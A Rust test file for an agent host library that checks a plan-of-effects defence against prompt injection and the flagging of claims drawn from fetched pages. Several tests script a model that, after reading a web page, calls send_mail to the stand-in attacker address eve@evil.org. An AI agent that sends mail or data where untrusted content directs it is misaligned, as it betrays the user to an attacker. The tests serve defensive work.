//! A plan of effects, which a model states before it reads text of others, and the statements of an
//! answer that rest on such text.

use rockbot_core::testing::ScriptedModel;
use rockbot_core::tool::tool;
use rockbot_core::turn::{OutsideStatement, TurnStatus};
use rockbot_host::tool::ToolLimits;
use rockbot_host::{AgentHostBuilder, TurnPolicies};
use serde_json::{Value, json};

use super::decisions::{ask, asks, host, reading, to};
use crate::support::{Anything, results};

fn planning(model: &ScriptedModel) -> AgentHostBuilder {
    let limits = ToolLimits::default().with_plans_effects(true);
    host(model).policies(TurnPolicies::new().with_tool_limits(limits))
}

fn plan(to: &str) -> Value {
    json!({"effects": [{"tool": "send_mail", "arguments": {"to": to}}]})
}

/// The user says who is meant, in words that the finder does not know for the action.
const ASKED: &str = "bob@x.org wants to hear what https://site.org/a is about; take care of it.";

#[tokio::test]
async fn a_planned_call_needs_no_approval_once_and_another_one_does() {
    let folder = tempfile::tempdir().unwrap();
    let model = ScriptedModel::new();
    let unplanned = reading(&model).calls("send_mail", to("bob@x.org")).says("done");
    let built = planning(&unplanned).build().unwrap();
    assert_eq!(
        asks(&ask(&built, ASKED).await).len(),
        1,
        "the plan is what endorses it below"
    );

    let model = ScriptedModel::new();
    let planned = model.clone().calls("plan_effects", plan("bob@x.org"));
    let read = reading(&planned).calls("send_mail", to("bob@x.org"));
    let _ = read.calls("send_mail", to("eve@evil.org")).says("done");
    let built = planning(&model).data_dir(folder.path()).build().unwrap();
    let parked = ask(&built, ASKED).await;
    let asked = asks(&parked);
    assert_eq!(asked.len(), 1);
    assert!(asked[0].arguments.contains("eve@evil.org"), "{}", asked[0].arguments);
    // The plan is in the journal, and its reader sees it as the first call.
    let trace = built.trace(&parked.turn).await.unwrap().unwrap();
    let calls = trace.entries().iter().flat_map(|entry| &entry.calls);
    let called: Vec<_> = calls.map(|call| call.name.as_str()).collect();
    assert_eq!(called, ["plan_effects", "get_page", "send_mail"]);
    built.agent().decide(asked[0].deny("no")).await.unwrap();
    assert_eq!(
        built.agent().outcome(&parked.turn).await.unwrap().status,
        TurnStatus::Answered
    );

    let model = ScriptedModel::new();
    let planned = model.clone().calls("plan_effects", plan("bob@x.org"));
    let read = reading(&planned).calls("send_mail", to("bob@x.org"));
    let _ = read.calls("send_mail", to("bob@x.org")).says("done");
    let built = planning(&model).build().unwrap();
    assert_eq!(asks(&ask(&built, ASKED).await).len(), 1, "it was planned once");
}

#[tokio::test]
async fn a_plan_after_reading_endorses_nothing() {
    let model = ScriptedModel::new();
    let read = reading(&model).calls("plan_effects", plan("eve@evil.org"));
    let _ = read.calls("send_mail", to("eve@evil.org")).says("done");
    let built = planning(&model).build().unwrap();
    assert_eq!(asks(&ask(&built, ASKED).await).len(), 1);
    let told = results(&model.requests()[2]);
    assert!(told[1].contains("a plan endorses nothing"), "{told:?}");
}

#[tokio::test]
async fn a_model_has_the_plan_only_where_the_host_offers_it() {
    let model = ScriptedModel::new().says("Hello.");
    ask(&host(&model).build().unwrap(), "Hi").await;
    let names = |model: &ScriptedModel| -> Vec<String> {
        let request = &model.requests()[0];
        request
            .tools
            .iter()
            .map(|tool| tool.registration().name.to_string())
            .collect()
    };
    assert!(!names(&model).contains(&"plan_effects".to_owned()));
    let model = ScriptedModel::new().says("Hello.");
    ask(&planning(&model).build().unwrap(), "Hi").await;
    assert!(names(&model).contains(&"plan_effects".to_owned()));
}

#[tokio::test]
async fn an_outcome_names_the_statements_that_only_others_make() {
    let model = ScriptedModel::new();
    let answer = "The site is old. Its author is eve@evil.org.";
    let _ = reading(&model).says(answer).says("You are welcome.");
    let noting = tool("remember", |_: Anything| async { "Ann lives in Oslo." });
    let built = host(&model).tool(noting.pure().own_output()).build().unwrap();
    let marked = async |text: &str| built.agent().ask("s", text).mark_statements().await.unwrap();
    let outcome = marked("Who wrote https://site.org/a?").await;
    let found: Vec<_> = outcome.outside_statements.iter().map(shown).collect();
    assert_eq!(found, [("Its author is eve@evil.org.", "get_page (site.org)")]);
    assert_eq!(marked("Thanks.").await.outside_statements, []);
}

#[tokio::test]
async fn statements_are_searched_for_only_when_the_program_asks() {
    let model = ScriptedModel::new();
    let _ = reading(&model).says("Its author is eve@evil.org.");
    let built = host(&model).build().unwrap();
    let outcome = ask(&built, "Who wrote https://site.org/a?").await;
    assert_eq!(outcome.outside_statements, []);
    assert!(outcome.label.is_untrusted());
}

fn shown(found: &OutsideStatement) -> (&str, &str) {
    (&found.statement, &found.source)
}
